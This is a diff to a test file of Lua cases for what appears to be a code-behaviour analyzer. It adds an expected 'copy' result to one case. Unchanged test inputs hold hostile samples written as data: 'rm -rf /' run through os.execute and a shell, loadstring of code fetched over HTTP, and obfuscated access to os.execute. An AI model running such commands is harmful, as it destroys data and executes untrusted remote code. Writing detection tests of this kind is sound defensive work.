@@ -11,7 +11,7 @@ checkCases("lua", [
     "sh: ls",
     "sh: sh << rm -rf /",
   ],
-  ['os.remove("/x") os.rename("/a", "/b")', "delete /x", "read* /a", "delete* /a", "write /b"],
+  ['os.remove("/x") os.rename("/a", "/b")', "delete /x", "read* /a", "delete* /a", "write /b", "copy /a /b"],
   ["load(\"os.execute('rm -rf /')\")()", "code: os.execute('rm -rf /')", "sh: rm -rf /"],
   ['loadstring(require("socket.http").request("http://x/y"))()', "connect http://x/y", "opaque download"],
   ['_G["os"]["exec".."ute"](string.char(114,109))', "sh: rm"],
